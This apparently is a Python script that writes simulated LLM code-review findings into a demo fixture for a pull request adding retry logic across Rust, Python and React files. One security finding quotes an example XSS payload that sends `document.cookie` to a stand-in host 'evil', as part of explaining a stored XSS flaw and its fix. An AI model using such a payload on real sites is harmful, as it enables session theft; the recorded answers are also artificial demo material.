#!/usr/bin/env python3
"""Writes the recorded LLM answers (llm.answers) of the bundled demo fixture.

Only the `llm` key is replaced; `pr`, `items` and `steps` are left byte-for-byte as they were
(the fixture is stored as json.dumps(indent=2, ensure_ascii=False) without a final newline).
Run from the repository root: python3 scripts/demo_llm_answers.py
"""
import json

PATH = "assets/fixtures/demo.json"

R = "src/client/retry.rs"
PY = "bindings/python/rivet/client.py"
TSX = "web/src/components/RetryBadge.tsx"
DOC = "docs/retry.md"
MOD = "src/client/mod.rs"

LOOP_429 = {
    "severity": "critical", "file": R, "line": 41,
    "message": "The `Ok(resp) if resp.status() == 429` arm sleeps and loops without ever comparing `attempt` to `policy.max_attempts`, so a server (or a proxy) that keeps answering 429 makes `with_retry` loop forever; `attempt` keeps growing until `delay()` overflows (see the `2u32.pow` finding).",
    "suggestedFix": "Guard the arm like the error arm: `Ok(resp) if resp.status() == 429 && attempt + 1 < policy.max_attempts => { ... }` and let the final 429 fall through to `Ok(resp) => return Ok(resp)` (or return a dedicated `Error::RateLimited`).",
}
POW = {
    "severity": "important", "file": R, "line": 27,
    "message": "`2u32.pow(n)` overflows for `n >= 32`: it panics in debug builds and wraps in release, where `base_delay * 0` gives a zero delay and the client hammers the server. `n` is unbounded on the 429 path, so this is reachable.",
    "suggestedFix": "`2u32.checked_pow(n).and_then(|m| self.base_delay.checked_mul(m)).map_or(self.max_delay, |d| d.min(self.max_delay))`",
}
PY_NAME = {
    "severity": "critical", "file": PY, "line": 36,
    "message": "`retry_budget()` reads `base_delay`, which is only a parameter of `__init__` and is never stored, so every call raises `NameError: name 'base_delay' is not defined`.",
    "suggestedFix": "Store it in `__init__` (`self.base_delay = base_delay`) and use `self.base_delay * 2 ** n` here.",
}
OFF_BY_ONE = {
    "severity": "important", "file": R, "line": 50,
    "message": "`attempt < policy.max_attempts` is checked before the retry with `attempt` starting at 0, so `max_attempts` counts retries, not attempts: `max_attempts = 1` still makes two calls, contradicting docs/retry.md (\"Set `max_attempts = 1` to turn retries off\").",
    "suggestedFix": "Compare `attempt + 1 < policy.max_attempts`, and add a test that `max_attempts = 1` calls `op` exactly once.",
}
RATIO = {
    "severity": "suggestion", "file": TSX, "line": 14,
    "message": "`stats.retried / stats.total` is `NaN` when no request has been made yet (`total == 0`), so the title reads \"0 of 0 requests retried\" and the warn class can never apply; harmless today but easy to trip over when the ratio is displayed.",
    "suggestedFix": "`const ratio = stats.total > 0 ? stats.retried / stats.total : 0;`",
}
FROM_EXC = {
    "severity": "important", "file": PY, "line": 30,
    "message": "`raise RivetError(str(exc))` inside `except Exception as exc` drops the original exception as the cause, so tracebacks show \"During handling of the above exception, another exception occurred\" and callers cannot inspect `__cause__`; catching bare `Exception` also turns programming errors (e.g. `TypeError` from bad params) into `RivetError`.",
    "suggestedFix": "Catch the native error type only and chain it: `except _NativeError as exc: raise RivetError(str(exc)) from exc`.",
}
UA = {
    "severity": "suggestion", "file": MOD, "line": 7,
    "message": "`USER_AGENT` is bumped from `rivet/0.8` to `rivet/0.9` in a PR about retries; a version bump usually travels with the release, and servers that key on the user agent will see it change silently.",
    "suggestedFix": "Move the bump to the release PR, or mention it in the PR description and changelog.",
}
FIELD_DOCS = {
    "severity": "suggestion", "file": R, "line": 9,
    "message": "The public fields of `RetryPolicy` have no doc comments, and `max_attempts` is ambiguous (total attempts or retries?) — the code treats it as retries, the docs as attempts.",
    "suggestedFix": "Document each field, e.g. `/// Total calls including the first; 1 disables retries.` and make the code match.",
}
XSS = {
    "severity": "critical", "file": TSX, "line": 19,
    "message": "`dangerouslySetInnerHTML={{ __html: stats.lastError }}` renders the last error text as HTML. That text comes from the API and ultimately from upstream responses and request URLs, so an error body like `<img src=x onerror=fetch('//evil/'+document.cookie)>` runs script in the dashboard's origin (stored XSS).",
    "suggestedFix": "Render it as text, e.g. `title={stats.lastError}` or `<span>{stats.lastError}</span>`; if markup is truly needed, sanitize with DOMPurify first.",
}
RETRY_AFTER = {
    "severity": "important", "file": R, "line": 43,
    "message": "The server's `Retry-After` is used as-is: `Retry-After: 4294967295` makes the client sleep for ~136 years, and together with the unbounded 429 loop a hostile or misconfigured server can park every caller indefinitely.",
    "suggestedFix": "Clamp it: `.map(|d| d.min(policy.max_delay))`, and count 429 retries against `max_attempts`.",
}
INTERVAL = {
    "severity": "important", "file": TSX, "line": 8,
    "message": "The effect starts a `setInterval` but returns no cleanup, so every mount and every `endpoint` change adds another 1 s poller that is never cleared; after unmount the pollers keep fetching and call `setStats` on an unmounted component.",
    "suggestedFix": "`return () => clearInterval(id);` at the end of the effect.",
}
JITTER = {
    "severity": "important", "file": R, "line": 26,
    "message": "`delay()` is deterministic (200 ms, 400 ms, 800 ms …), so clients that failed together retry together: after an outage every client hits the recovering server in synchronized waves (thundering herd).",
    "suggestedFix": "Apply full jitter in `with_retry`: `tokio::time::sleep(rand::random_range(Duration::ZERO..=policy.delay(attempt)))`.",
}
JITTER_2 = {
    "severity": "important", "file": R, "line": 26,
    "message": "The reply on the jitter thread says jitter was added at the call site, but `with_retry` still sleeps for the deterministic `policy.delay(attempt)`; every other caller of `with_retry` retries in lockstep unless it remembers to add its own jitter.",
    "suggestedFix": "Put the jitter inside `with_retry` (full jitter over `policy.delay(attempt)`) so no caller can forget it; keep `delay()` deterministic for tests as intended.",
}
POLL_PER_BADGE = {
    "severity": "suggestion", "file": TSX, "line": 10,
    "message": "Each `RetryBadge` polls its own endpoint every second; a dashboard with twenty badges sends twenty requests per second per open tab, mostly to learn that nothing changed.",
    "suggestedFix": "Poll once per page in a shared hook (or subscribe to a push stream) and raise the interval to 5–10 s.",
}
TESTS_RUST = {
    "severity": "important", "file": R, "line": 33,
    "message": "`with_retry` and `RetryPolicy::delay` arrive without a single test. Missing cases: gives up after `max_attempts` on transient errors; stops on a permanent error without retrying; a stream of 429s stops after `max_attempts`; `Retry-After` is honoured (and capped); `delay(n)` saturates at `max_delay` for `n = 31, 32, 64`.",
    "suggestedFix": "Add `#[tokio::test(start_paused = true)]` tests with an `op` closure that pops scripted results from a `VecDeque` and asserts the call count and the total virtual time slept.",
}
TESTS_PY = {
    "severity": "important", "file": PY, "line": 32,
    "message": "`retry_budget()` is new public API with no test; calling it once would have caught the `NameError` on `base_delay`. The new constructor arguments are not covered either.",
    "suggestedFix": "Add `def test_retry_budget(): assert Client('http://x', max_attempts=3, base_delay=0.1).retry_budget() == pytest.approx(0.7)`.",
}
TESTS_TSX = {
    "severity": "suggestion", "file": TSX, "line": 4,
    "message": "No component test for `RetryBadge`: neither that the interval is cleared on unmount nor that `lastError` is rendered as text.",
    "suggestedFix": "With Testing Library and fake timers: render, unmount, advance 5 s and assert `fetchRetryStats` was called once; render `lastError = '<b>x</b>'` and assert the text content contains the tags.",
}
ARCH_PY = {
    "severity": "suggestion", "file": PY, "line": 32,
    "message": "`retry_budget()` re-implements the Rust backoff formula in Python and already diverges from it: it ignores `max_delay`, so for `max_attempts = 10` it reports 204.6 s where the client waits at most 30 s per attempt.",
    "suggestedFix": "Expose `RetryPolicy::delay` (or a `retry_budget`) through the native module and call it, so the formula lives in one place.",
}
ARCH_STATUS = {
    "severity": "suggestion", "file": R, "line": 40,
    "message": "What is retried is split across three places: 429 is special-cased in `with_retry`, transient errors are whatever `Error::is_transient()` says (outside this diff), and docs/retry.md promises retries on 502/503/504 answers — which `with_retry` returns as `Ok(resp)` without retrying. The policy has no single home.",
    "suggestedFix": "Give `RetryPolicy` a `retry_on(status) -> bool` (default 429, 502, 503, 504) used by `with_retry`, and link docs/retry.md to it.",
}


def reply(findings, fenced):
    body = json.dumps({"findings": findings}, indent=2, ensure_ascii=False)
    return f"```json\n{body}\n```" if fenced else body


ANSWERS = {
    # aspect: (step 0 findings, step 2 findings, fenced?, (in, out) tokens at step 0)
    "correctness": ([LOOP_429, POW, PY_NAME, OFF_BY_ONE, RATIO], [LOOP_429, POW, PY_NAME, OFF_BY_ONE], True, (4812, 912)),
    "conventions": ([FROM_EXC, UA, FIELD_DOCS], [FROM_EXC, FIELD_DOCS], False, (4655, 540)),
    "security": ([XSS, RETRY_AFTER], [XSS, RETRY_AFTER], True, (4731, 498)),
    "perf": ([INTERVAL, JITTER, POLL_PER_BADGE], [INTERVAL, JITTER_2, POLL_PER_BADGE], False, (4640, 611)),
    "tests": ([TESTS_RUST, TESTS_PY, TESTS_TSX], [TESTS_RUST, TESTS_PY, TESTS_TSX], True, (4598, 633)),
    "architecture": ([ARCH_PY, ARCH_STATUS], [ARCH_PY, ARCH_STATUS], False, (4702, 455)),
}


def main():
    with open(PATH, encoding="utf-8") as f:
        text = f.read()
    data = json.loads(text)
    assert json.dumps(data, indent=2, ensure_ascii=False) == text, "fixture layout changed"
    answers = []
    for step in (0, 2):
        for aspect, (s0, s2, fenced, (tin, tout)) in ANSWERS.items():
            findings = s0 if step == 0 else s2
            answers.append({
                "aspect": aspect,
                "step": step,
                "reply": reply(findings, fenced),
                "inputTokens": tin + (61 if step == 2 else 0),
                "outputTokens": tout - (40 if step == 2 and len(s2) < len(s0) else 0),
            })
    data["llm"] = {"answers": answers}
    with open(PATH, "w", encoding="utf-8") as f:
        f.write(json.dumps(data, indent=2, ensure_ascii=False))


if __name__ == "__main__":
    main()
